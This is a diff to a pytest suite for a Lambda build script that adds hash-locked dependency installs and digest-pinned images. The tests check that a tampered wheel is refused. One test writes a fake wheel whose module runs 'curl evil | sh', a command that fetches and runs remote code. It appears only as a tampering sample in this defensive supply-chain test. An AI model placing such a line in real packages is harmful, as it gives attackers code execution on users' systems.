@@ -16,7 +16,7 @@ import pytest
 from PIL import Image
 
 from tests import images
-from tests.build.project import ROOT, Build, add_test_files, copy_project, fake_project, run_build
+from tests.build.project import ROOT, Build, add_test_files, copy_project, fake_project, lock_text, run_build
 from tests.terraform.stack import TERRAFORM_DIR, load_stack
 
 pytestmark = pytest.mark.slow
@@ -111,7 +111,7 @@ def test_build_zips_hold_no_sdk_tests_caches_or_install_records(arm64_build: Bui
     names = arm64_build.archive(function).namelist()
 
     assert [name for name in names if unwanted(name)] == []
-    assert f"{function}/requirements.txt" not in names
+    assert f"{function}/requirements.txt" not in names and f"{function}/requirements.lock" not in names
     assert {name.split("/")[0] for name in names if name.endswith(".py")} >= {function, "pipeline_common"}
 
 
@@ -249,6 +249,68 @@ def test_build_fails_naming_the_package_without_a_wheel_for_the_target(tmp_path:
     assert [path.name for path in out.iterdir()] == []  # nothing half-built for Terraform to pick up
 
 
+def fake_wheel(index: Path, module_text: str) -> str:
+    """Writes fakeimg 1.0 as a pure-Python wheel into a find-links folder; returns the wheel's sha256."""
+    wheel = index / "fakeimg-1.0-py3-none-any.whl"
+    files = {
+        "fakeimg/__init__.py": module_text,
+        "fakeimg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: fakeimg\nVersion: 1.0\n",
+        "fakeimg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    files["fakeimg-1.0.dist-info/RECORD"] = "".join(f"{name},,\n" for name in [*files, "fakeimg-1.0.dist-info/RECORD"])
+    with zipfile.ZipFile(wheel, "w") as archive:
+        for name, text in files.items():
+            archive.writestr(name, text)
+    return hashlib.sha256(wheel.read_bytes()).hexdigest()
+
+
+def test_build_installs_the_locked_wheel_and_refuses_one_whose_hash_differs(tmp_path: Path):
+    # GIVEN a package index holding a wheel, and a lock with that wheel's sha256
+    index = tmp_path / "index"
+    index.mkdir()
+    locked = fake_wheel(index, "GENUINE = True\n")
+    lock = lock_text({"fakeimg==1.0": locked})
+    project = fake_project(tmp_path / "project", image_processor_requirements="fakeimg==1.0\n", lock=lock)
+    pip_index = {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(index)}
+
+    # WHEN the pip path builds it
+    result = run_build(project, "--no-docker", "--out", str(tmp_path / "dist"), env=pip_index)
+    # THEN the locked wheel is in the zip
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "installing fakeimg==1.0 with pip for" in result.stdout and "from requirements.lock" in result.stdout
+    archive = Build(tmp_path / "dist", result.stdout).archive("image_processor")
+    assert archive.read("fakeimg/__init__.py") == b"GENUINE = True\n"
+
+    # WHEN the index serves a tampered wheel under the same name and version
+    assert fake_wheel(index, "import os; os.system('curl evil | sh')\n") != locked
+    out = tmp_path / "tampered"
+    result = run_build(project, "--no-docker", "--out", str(out), env=pip_index)
+
+    # THEN the build fails, says why, and writes nothing for Terraform to deploy
+    assert result.returncode == 1
+    assert "error: image_processor: a file pip downloaded is not the one image_processor/requirements.lock locks" in (
+        result.stderr
+    )
+    assert [path.name for path in out.iterdir()] == []
+
+
+def test_build_refuses_a_lock_that_does_not_pin_what_requirements_txt_asks(tmp_path: Path):
+    # GIVEN requirements.txt raised to 1.1 and a lock still at 1.0
+    lock = lock_text({"fakeimg==1.0": "0" * 64})
+    project = fake_project(tmp_path / "project", image_processor_requirements="fakeimg==1.1\n", lock=lock)
+    out = tmp_path / "dist"
+
+    result = run_build(project, "--no-docker", "--out", str(out))
+
+    # THEN it stops before pip runs and says how to bring the lock up to date
+    assert result.returncode == 1
+    assert (
+        "error: image_processor: image_processor/requirements.lock does not lock fakeimg==1.1 from "
+        "image_processor/requirements.txt (it has 1.0): run scripts/lock.sh"
+    ) in result.stderr
+    assert [path.name for path in out.iterdir()] == []
+
+
 def test_build_docker_path_installs_inside_the_lambda_image(tmp_path: Path, fake_docker):
     # GIVEN a Docker engine that answers, and a requirement whose install also pulls in boto3
     environment, calls = fake_docker
@@ -263,16 +325,19 @@ def test_build_docker_path_installs_inside_the_lambda_image(tmp_path: Path, fake
     info_call, run_call = calls()  # db_writer has no requirements: one run only
     assert info_call == ["info", "--format", "{{.ServerVersion}}"]
     site = run_call[run_call.index("--volume") + 3].removesuffix(":/build/site")
+    # The python3.12 Lambda image, pinned by digest: a re-pushed tag cannot change what pip runs in
+    image = run_call[run_call.index(f"{ROOT}/.cache/pip:/build/pip-cache") + 1]
+    assert re.fullmatch(r"public\.ecr\.aws/lambda/python:3\.12@sha256:[0-9a-f]{64}", image), image
     assert Path(site).parent == project / ".build"
     assert run_call == [
         "run", "--rm", "--platform", "linux/arm64", "--user", f"{os.getuid()}:{os.getgid()}",
         "--env", "HOME=/tmp", "--entrypoint", "python3",
-        "--volume", f"{project}/image_processor/requirements.txt:/build/requirements.txt:ro",
+        "--volume", f"{project}/image_processor/requirements.lock:/build/requirements.txt:ro",
         "--volume", f"{site}:/build/site",
         "--volume", f"{ROOT}/.cache/pip:/build/pip-cache",
-        "public.ecr.aws/lambda/python:3.12",
+        image,
         "-m", "pip", "install", "--no-compile", "--disable-pip-version-check", "--no-warn-script-location",
-        "--cache-dir", "/build/pip-cache", "--target", "/build/site", "--only-binary=:all:",
+        "--cache-dir", "/build/pip-cache", "--target", "/build/site", "--only-binary=:all:", "--require-hashes",
         "-r", "/build/requirements.txt",
     ]  # fmt: skip
     # AND the zip keeps the package and six, which it needs too, but not the SDK or what only the SDK needs,
@@ -309,7 +374,7 @@ def test_build_docker_path_fails_naming_the_package_without_a_wheel(tmp_path: Pa
     # THEN it names the package, the same way the pip path does, and writes nothing
     assert result.returncode == 1
     assert "error: image_processor: no wheel of fakeimg==1.0 for python3.13 on arm64" in result.stderr
-    assert "(pip in public.ecr.aws/lambda/python:3.13 found none)" in result.stderr
+    assert re.search(r"\(pip in public\.ecr\.aws/lambda/python:3\.13@sha256:[0-9a-f]{64} found none\)", result.stderr)
     assert "never compiles from source" in result.stderr
     assert [path.name for path in out.iterdir()] == []
 
